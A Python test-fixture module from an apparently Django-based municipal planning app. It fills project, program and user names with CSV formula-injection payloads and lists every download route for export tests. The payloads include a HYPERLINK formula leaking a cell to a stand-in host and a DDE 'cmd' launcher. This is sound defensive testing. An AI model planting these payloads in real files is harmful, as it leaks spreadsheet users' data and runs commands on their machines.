"""A data set whose names attack spreadsheets (OWASP CSV injection), and what every download of
the application is: the walk list of the export tests."""
from __future__ import annotations

import datetime as dt
import re
from types import SimpleNamespace

from django.utils import timezone

from accountability import services as accountability_services
from action_plan import services as action_plan_services
from isvimed_planning.models import OrgUnit
from monitoring.matrices import KINDS
from monitoring.matrix_services import snapshot_generate
from monitoring.models import MatrixSnapshot
from monitoring.submission_services import snapshot_send
from projects.models import FundingSource, Product, Project
from strategy.models import DevelopmentPlan, Indicator, Program
from tests.accountability.builders import execution, info_request, report
from tests.action_plan.builders import program_all

HYPERLINK = '=HYPERLINK("http://x?d="&C5,"clic")'
AT = "@SUM(A1)"
PLUS = "+cmd|' /C calc'!A0"
MINUS = "-2+3"
TAB = "\t=1+1 tabulado"
CR = "\r=1+1 retorno"
HOSTILE = (HYPERLINK, AT, PLUS, MINUS, TAB, CR)
CSV_DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
CUTOFF = dt.date(2025, 6, 30)


def hostile_data(*, planner, director, lead) -> SimpleNamespace:
    """Year 2025 with two projects, every name a formula; its approved accountability report, its
    published action plan and a snapshot of each of the four matrices."""
    d = execution(lead=lead)
    Project.objects.filter(pk=d.a.pk).update(name=HYPERLINK)
    Project.objects.filter(pk=d.b.pk).update(name=AT)
    Program.objects.filter(pk=d.viv.pk).update(name=PLUS)
    Program.objects.filter(pk=d.mej.pk).update(name=MINUS)
    Product.objects.filter(pk=d.p1.pk).update(name=TAB, unit=AT)
    Product.objects.filter(pk=d.p2.pk).update(name=CR)
    Indicator.objects.filter(program=d.viv).update(name=HYPERLINK)
    DevelopmentPlan.objects.update(name=PLUS)
    OrgUnit.objects.update(name=MINUS)
    FundingSource.objects.filter(allocations__project=d.a).update(name=HYPERLINK)
    lead.first_name, lead.last_name = "=1+2", "@lead"
    lead.save()

    info_request(received_on=dt.date(2025, 3, 3), filing_number=HYPERLINK[:40])  # a radicado is typed by staff
    rep = report(by=planner)
    accountability_services.report_transition(by=planner, report=rep, name="send")
    accountability_services.report_transition(by=director, report=rep, name="approve")
    rep.refresh_from_db()

    plan = action_plan_services.plan_build(by=planner, fiscal_year=d.fy)
    program_all(planner, plan)
    action_plan_services.plan_transition(by=director, plan=plan, name="approve")
    action_plan_services.plan_transition(by=planner, plan=plan, name="publish")

    snapshots = {}
    for kind in KINDS:
        snapshot = MatrixSnapshot.objects.create(kind=kind, year=2025, cutoff=CUTOFF, requested_by=planner)
        snapshot_generate(snapshot_id=snapshot.pk)
        snapshots[kind] = snapshot
    # Each generated matrix also sent to the Alcaldía: the sealed copy is downloaded as it was sent.
    submissions = [
        snapshot_send(snapshot=MatrixSnapshot.objects.get(pk=s.pk), by=planner, recipient=HYPERLINK[:200],
                      channel="email", sent_at=timezone.now())
        for s in snapshots.values()
    ]
    return SimpleNamespace(**vars(d), report=rep, plan=plan, snapshots=snapshots, submissions=submissions)


# --- The walk list ---------------------------------------------------------------------------------
# Every route that answers a file. `who` is "anonymous" for public downloads, else a persona.
# Spreadsheets: their cells are checked; the others: their Content-Disposition.
SPREADSHEET_ROUTES = {
    "workbook:template": ("planner", lambda d: ["/libro/plantilla/"]),
    "workbook:export": ("planner", lambda d: ["/libro/exportar/"]),
    "budget:poai_xlsx": ("reader", lambda d: ["/presupuesto/2025/poai.xlsx"]),
    "action_plan:xlsx": ("reader", lambda d: ["/plan-accion/2025/plan.xlsx"]),
    "action_plan:public_xlsx": ("anonymous", lambda d: ["/plan-accion/publico/2025/plan.xlsx"]),
    "monitoring:matrix_download": (
        "reader", lambda d: [f"/seguimiento/matrices/{s.pk}/descargar/" for s in d.snapshots.values()]
    ),
    "monitoring:submission_download": (
        "reader", lambda d: [f"/seguimiento/matrices/enviadas/{s.pk}/descargar/" for s in d.submissions]
    ),
    "monitoring:cuadre_export": ("reader", lambda d: ["/seguimiento/cuadre/exportar/?anio=2025&corte=2025-06-30"]),
    "projects:index_xlsx": ("reader", lambda d: ["/proyectos/exportar/"]),
    "strategy:indicators_xlsx": ("reader", lambda d: ["/estrategia/indicadores/exportar/"]),
    "budget:allocations_xlsx": ("reader", lambda d: ["/presupuesto/2025/techos.xlsx"]),
    "budget:unit_costs_xlsx": ("reader", lambda d: ["/presupuesto/2025/costos-unitarios.xlsx"]),
    "monitoring:report_list_xlsx": ("reader", lambda d: ["/seguimiento/reportes/exportar/"]),
    "accountability:request_list_xlsx": ("reader", lambda d: ["/rendicion/solicitudes/exportar/"]),
    "deadlines:index_xlsx": ("reader", lambda d: ["/ans/exportar/"]),
    "accountability:public_csv": (
        "anonymous", lambda d: [f"/rendicion/publico/{d.report.pk}/{t}.csv" for t in ("programas", "proyectos", "territorios")]
    ),
    "accountability:public_petitions_csv": (
        "anonymous", lambda d: ["/rendicion/publico/peticiones/2025-T1/trimestral.csv", "/rendicion/publico/peticiones/2025/acceso.csv"]
    ),
    "transparency:project_csv": ("anonymous", lambda d: [f"/ciudadania/proyectos/{p.pk}/datos.csv" for p in (d.a, d.b)]),
    "opendata:dataset_csv": (
        "anonymous", lambda d: [f"/datos/{slug}.csv" for slug in ("plan-programas", "indicadores", "proyectos",
                                                                "ejecucion-programas", "ejecucion-fuentes")]
    ),
}
# Downloads that are not spreadsheets (PDFs, JSON, uploaded files): see test_content_disposition.py.
OTHER_DOWNLOAD_ROUTES = {
    "strategy:plan_pdf", "strategy:instrument_file", "projects:sheet_pdf", "projects:meeting_minutes",
    "budget:poai_pdf", "action_plan:pdf", "action_plan:public_pdf", "monitoring:evidence_download",
    "accountability:request_answer_file", "accountability:session_questionnaire", "accountability:report_pdf",
    "accountability:public_pdf", "accountability:public_json",
    "accountability:petitions_report_pdf", "accountability:public_petitions_json", "transparency:evidence_download",
    "opendata:catalogue", "opendata:dictionary_json",
}
# Management commands that write a spreadsheet (checked in test_formula_injection.py).
EXPORT_COMMANDS = {"export_workbook", "export_matrix"}

# A route answers a file when it ends in a file extension or in one of the application's
# download words (Spanish paths).
DOWNLOAD_ROUTE = re.compile(
    r"(\.(xlsx|xls|csv|tsv|ods|pdf|json|zip)$|/(pdf|descargar|exportar|plantilla|archivo|acta|cuestionario|respuesta)/$)"
)
